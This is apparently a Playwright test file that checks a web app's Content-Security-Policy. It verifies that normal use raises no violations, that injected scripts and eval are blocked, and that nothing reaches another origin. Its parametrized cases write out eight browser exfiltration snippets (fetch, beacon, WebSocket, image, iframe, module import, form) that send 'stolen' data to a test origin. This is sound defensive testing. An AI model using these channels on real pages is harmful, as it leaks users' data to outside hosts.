"""The Content-Security-Policy: the app never runs into it, and whoever would carry something away does."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.browser.app import App
from tests.browser.conftest import Launcher
from tests.browser.site import Site
from tests.samples import FOLDER
from tooling.policy import content_security_policy

REPORTS = "/reports-of-violations"


@pytest.fixture
def elsewhere(dist: Path) -> Iterator[Site]:
    """Another origin, which must never hear anything."""
    served = Site(dist)
    yield served
    served.stop()


@pytest.fixture
def painted(launch_app: Launcher) -> App:
    """The page as it stands before the library is up, for tests that leave it in pieces."""
    app = launch_app()
    app.page.goto(app.site.origin)
    expect(app.see("drop-zone")).to_be_visible()
    return app


@pytest.mark.parametrize("workers", ["allow", "block"])
def test_indexing_and_searching_violate_nothing(dist: Path, launch_app: Launcher, library_folder: Path, workers: str) -> None:
    # Violations inside workers are invisible to the page, so the browser is told to report each one to the server.
    site = Site(dist, extra={"Content-Security-Policy": f"{content_security_policy()}; report-uri {REPORTS}"})
    try:
        app = launch_app(site=site, service_workers=workers).open()
        app.add(library_folder)
        # These need codecs of their own, which must do without eval too.
        assert app.add(FOLDER / "told.heic", FOLDER / "told.jp2")["added"] == 2
        app.search("a cat")
        app.similar(app.names()["holidays/2019/cat.jpg"])
        for path in ("#/settings", "#/failures", "#/search?q=cat"):
            app.page.goto(f"{site.origin}/{path}")
        expect(app.see("relevant-count")).to_be_visible()
        assert app.js("() => witness.violations") == []
        assert [line for line in app.console if "Content Security Policy" in line] == []
        assert [request for request in site.log if request.target == REPORTS] == []
    finally:
        site.stop()


def test_an_injected_script_does_not_run(painted: App) -> None:
    painted.js(
        """() => {
          const script = document.createElement("script");
          script.textContent = "globalThis.injected = true";
          document.body.append(script);
          const link = document.createElement("a");
          link.setAttribute("onclick", "globalThis.injected = true");
          document.body.append(link);
          link.click();
        }"""
    )
    painted.wait("witness.violations.length >= 2")
    assert painted.js("() => globalThis.injected ?? null") is None


def test_text_is_not_run_as_a_program(painted: App) -> None:
    refused = painted.js(
        """async () => {
          // The browser lets its own tools do what pages may not, until the first turn of the page itself.
          await new Promise((resolve) => setTimeout(resolve));
          return [() => eval("1"), () => new Function("return 1")()].map((run) => {
            try { run(); return false; } catch (error) { return error instanceof EvalError; }
          });
        }"""
    )
    assert refused == [True, True]


@pytest.mark.parametrize(
    "carry",
    [
        "(there) => fetch(there + '/?stolen').then(() => 'sent', () => 'refused')",
        """(there) => fetch(there, { method: "POST", body: "stolen", mode: "no-cors" })
          .then(() => "sent", () => "refused")""",
        "(there) => { navigator.sendBeacon(there + '/', 'stolen'); return 'refused'; }",
        """(there) => new Promise((resolve) => {
          const socket = new WebSocket(there.replace("http", "ws"));
          socket.onerror = () => resolve("refused");
          socket.onopen = () => resolve("sent");
        }).catch(() => "refused")""",
        """(there) => new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("sent");
          image.onerror = () => resolve("refused");
          image.src = there + "/icons/any.png?stolen";
        })""",
        """(there) => new Promise((resolve) => {
          const frame = document.createElement("iframe");
          frame.src = there + "/?stolen";
          document.addEventListener("securitypolicyviolation", () => resolve("refused"), { once: true });
          document.body.append(frame);
        })""",
        """(there) => import(there + "/stolen.js").then(() => "sent", () => "refused")""",
        """(there) => new Promise((resolve) => {
          const form = document.createElement("form");
          form.action = there + "/?stolen";
          document.addEventListener("securitypolicyviolation", () => resolve("refused"), { once: true });
          document.body.append(form);
          form.submit();
        })""",
    ],
    ids=["fetch", "post", "beacon", "socket", "image", "frame", "module", "form"],
)
def test_nothing_reaches_another_origin(painted: App, elsewhere: Site, carry: str) -> None:
    assert painted.js(carry, elsewhere.origin) == "refused"
    assert elsewhere.log == []


def test_the_policy_also_stands_in_the_page_itself(dist: Path) -> None:
    html = (dist / "index.html").read_text()
    assert 'http-equiv="Content-Security-Policy"' in html
    assert "<style" not in html
    assert " onclick=" not in html
